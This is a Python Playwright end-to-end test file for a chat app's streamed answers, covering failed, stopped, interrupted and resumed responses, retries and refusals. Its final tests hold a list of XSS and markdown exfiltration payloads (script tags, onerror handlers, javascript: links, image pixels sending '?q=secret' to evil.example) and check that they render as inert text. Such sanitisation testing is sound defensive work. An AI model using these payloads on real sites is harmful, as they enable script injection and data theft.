"""The states of an answer, and hostile text, told to the page by frames made for it."""

from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Locator, Page, Route, expect

from tests.e2e.conftest import Visits
from tests.e2e.steps import overflow, told, violations

TURN = "11111111-1111-4111-8111-111111111111"
META = {
    "decision": "answer",
    "reason": "ok",
    "confidence": "high",
    "allow_generation": True,
    "grounding_policy": "anchored",
    "revisions": {"x": 3},
    "label": "",
}
WEAK = {**META, "reason": "insufficient_context", "confidence": "low"}
FAILED = {
    "code": "provider_error",
    "sentence": "The language model did not answer.",
    "retryable": True,
}


def _frames(*frames: tuple[str, dict[str, Any]]) -> Callable[[Route], None]:
    def answer(route: Route) -> None:
        route.fulfill(
            status=200,
            headers={"Content-Type": "text/event-stream", "X-Turn": TURN},
            body=told(*frames),
        )

    return answer


def _told(page: Page, river: str, *frames: tuple[str, dict[str, Any]]) -> Locator:
    """Asks, and the page is told these frames; gives the turn."""
    page.route("**/api/chat", _frames(*frames))
    page.route(f"**/api/turns/{TURN}**", lambda route: route.fulfill(status=404, json={}))
    page.goto(river)
    before = page.locator(".turn").count()
    page.locator("[data-composer] textarea").fill("What now?")
    page.keyboard.press("Enter")
    turn = page.locator(".turn").nth(before)
    expect(turn).to_be_visible()
    return turn


@pytest.mark.parametrize("phone, dark", [(False, False), (True, True)], ids=["desk", "phone-dark"])
@pytest.mark.parametrize(
    "frames, words",
    [
        ([("acl_meta", META), ("error", FAILED), ("done", {"state": "failed"})], "did not answer"),
        ([("acl_meta", META), ("delta", {"text": "Half a"}), ("done", {"state": "stopped"})], "stopped here"),
        ([("acl_meta", META), ("delta", {"text": "Half"}), ("done", {"state": "interrupted"})], "broke off here"),
        ([("acl_meta", WEAK), ("delta", {"text": "Nothing."}), ("done", {"state": "completed"})], "Nothing in these sources"),
    ],
    ids=["failed", "stopped", "interrupted", "nothing-found"],
)  # fmt: skip
def test_each_end_of_an_answer_says_what_happened(
    visits: Visits,
    owner: Any,
    river: str,
    tmp_path: Path,
    frames: list[tuple[str, dict[str, Any]]],
    words: str,
    phone: bool,
    dark: bool,
) -> None:
    page = visits.page(storage_state=owner, phone=phone, dark=dark)
    turn = _told(page, river, *frames)
    expect(turn).to_contain_text(words)
    page.screenshot(path=tmp_path / "state.png")
    assert violations(page) == []
    assert overflow(page) == 0


def test_a_failed_answer_is_asked_again_by_a_press(visits: Visits, owner: Any, river: str) -> None:
    page = visits.page(storage_state=owner)
    turn = _told(page, river, ("acl_meta", META), ("error", FAILED), ("done", {"state": "failed"}))
    expect(turn.get_by_role("alert")).to_be_visible()
    page.unroute("**/api/chat")
    page.route(
        "**/api/chat",
        _frames(("delta", {"text": "Now it is here."}), ("done", {"state": "completed"})),
    )
    turn.get_by_role("button", name="Try again").click()
    again = page.locator(".turn").last
    expect(again).to_contain_text("Now it is here.")
    expect(again.get_by_role("heading")).to_have_text("What now?")


def test_a_broken_line_is_told_and_joined_without_loss_or_repeat(
    visits: Visits, owner: Any, river: str
) -> None:
    page = visits.page(storage_state=owner)
    whole = [
        ("acl_meta", META),
        ("delta", {"text": "First half, "}),
        ("delta", {"text": "second half."}),
        ("done", {"state": "completed"}),
    ]
    asked_for: list[str] = []

    def stream(route: Route) -> None:
        asked_for.append(route.request.headers["last-event-id"])
        if len(asked_for) < 3:
            route.abort()
        else:
            _frames(*whole)(route)  # everything again: what was seen must not be said twice

    page.route("**/api/chat", _frames(*whole[:2]))
    page.route(f"**/api/turns/{TURN}", lambda route: route.fulfill(json={"state": "streaming"}))
    page.route(f"**/api/turns/{TURN}/stream", stream)
    page.goto(river)
    before = page.locator(".turn").count()
    page.locator("[data-composer] textarea").fill("Is the line good?")
    page.keyboard.press("Enter")
    turn = page.locator(".turn").nth(before)
    expect(page.locator("[data-unstable]")).to_be_visible()
    assert violations(page) == []
    expect(turn.locator(".prose")).to_have_text("First half, second half.", timeout=20_000)
    expect(page.locator("[data-unstable]")).to_be_hidden()
    assert asked_for == ["2", "2", "2"]


def test_stop_is_one_press_and_asks_the_server_to_stop(
    visits: Visits, owner: Any, river: str
) -> None:
    page = visits.page(storage_state=owner)
    page.route("**/api/chat", _frames(("delta", {"text": "On and on"})))
    page.route(f"**/api/turns/{TURN}/stream", lambda route: route.abort())
    page.route(f"**/api/turns/{TURN}", lambda route: route.fulfill(json={"state": "streaming"}))
    page.route(f"**/api/turns/{TURN}/stop", lambda route: route.fulfill(status=202, json={}))
    page.goto(river)
    page.locator("[data-composer] textarea").fill("Go on")
    page.keyboard.press("Enter")
    stop = page.get_by_role("button", name="Stop")
    expect(stop).to_be_enabled()
    expect(page.locator(".turn[aria-busy=true] .caret")).to_be_visible()
    assert violations(page) == []
    with page.expect_request("**/stop"):
        stop.click()
    page.locator("[data-composer] textarea").blur()
    with page.expect_request("**/stop"):
        page.keyboard.press("Escape")


def test_a_refused_question_stays_in_the_composer(visits: Visits, owner: Any, river: str) -> None:
    page = visits.page(storage_state=owner)
    refusal = {"detail": "Another question is being answered here.", "code": "conversation_busy"}
    page.route("**/api/chat", lambda route: route.fulfill(status=409, json=refusal))
    page.goto(river)
    before = page.locator(".turn").count()
    page.locator("[data-composer] textarea").fill("Am I lost?")
    page.keyboard.press("Enter")
    expect(page.locator("[data-refused]")).to_contain_text("Another question")
    expect(page.locator("[data-composer] textarea")).to_have_value("Am I lost?")
    expect(page.locator(".turn")).to_have_count(before)
    page.reload()
    expect(page.locator("[data-composer] textarea")).to_have_value("Am I lost?")
    assert violations(page) == []


def test_a_list_that_does_not_arrive_offers_to_try_again(
    visits: Visits, owner: Any, river: str
) -> None:
    page = visits.page(storage_state=owner)
    page.route("**/api/notebooks/resources**", lambda route: route.abort())
    page.goto("/notebooks?new")
    expect(page.get_by_text("The records did not load")).to_be_visible()
    assert violations(page) == []
    page.unroute("**/api/notebooks/resources**")
    page.get_by_role("button", name="Try again").click()
    expect(page.locator("#create-dialog .pickrow").first).to_be_visible()


HOSTILE = [
    "<script>window.stolen = 1</script>",
    '<img src="/x" onerror="window.stolen = 1">',
    "<svg onload=window.stolen=1>",
    '<iframe srcdoc="<script>parent.stolen=1</script>"></iframe>',
    "![pixel](https://evil.example/p.png?q=secret)",
    "![pixel](//evil.example/p.png)",
    "[press](javascript:window.stolen=1)",
    "[press](data:text/html,<script>window.stolen=1</script>)",
    "[press](//evil.example/)",
    "[press](/\\evil.example/)",
    "[press](https://evil.example/?q=secret)",
    "<https://evil.example/>",
    "[n]: https://evil.example\n\n[press][n]",
    '<a href="https://evil.example" style="position:fixed;inset:0">x</a>',
    '<style>@import "https://evil.example/x.css"</style>',
    '<form action="https://evil.example"><button>Sign in</button></form>',
    "<math><mtext><table><mglyph><style><img src=/x onerror=window.stolen=1>",
    "<option discipline=x slug=y label='z'>",
    "\u2e261\u2e27 and [1] and [99]",
]


def test_hostile_text_stays_text(visits: Visits, owner: Any, river: str) -> None:
    page = visits.page(storage_state=owner)
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    turn = _told(
        page,
        river,
        ("acl_meta", META),
        *(("delta", {"text": f"{text}\n\n"}) for text in HOSTILE),
        ("done", {"state": "completed"}),
    )
    expect(turn).not_to_have_attribute("aria-busy", "true")
    expect(turn.locator(".prose")).to_contain_text("evil.example")
    forbidden = "img, svg, iframe, script, style, form, button, option, math, [style], [onerror], a"
    expect(turn.locator(".prose").locator(forbidden)).to_have_count(0)
    assert page.evaluate("window.stolen") is None
    assert [url for url in asked if not url.startswith("http://127.0.0.1")] == []


def test_a_hostile_title_in_a_source_card_stays_text(
    visits: Visits, owner: Any, river: str
) -> None:
    page = visits.page(storage_state=owner)
    bad = '<img src=x onerror="window.stolen=1">'
    citation = {
        "n": 1,
        "marker": [6, 9],
        "sentence": [0, 9],
        "chunk_id": 1,
        "revision": 1,
        "title": bad,
        "label": bad,
        "source_label": bad,
        "quoted": bad,
        "quote": [0, 1],
        "href": "/notebooks/x/evidence/1?revision=1",
        "support": "verbatim",
    }
    turn = _told(
        page,
        river,
        ("delta", {"text": "True. [1]"}),
        ("citation", citation),
        ("done", {"state": "completed"}),
    )
    expect(turn.locator(".src__t")).to_have_text(bad)
    expect(turn.locator("a.cite")).to_have_count(1)
    assert page.evaluate("window.stolen") is None
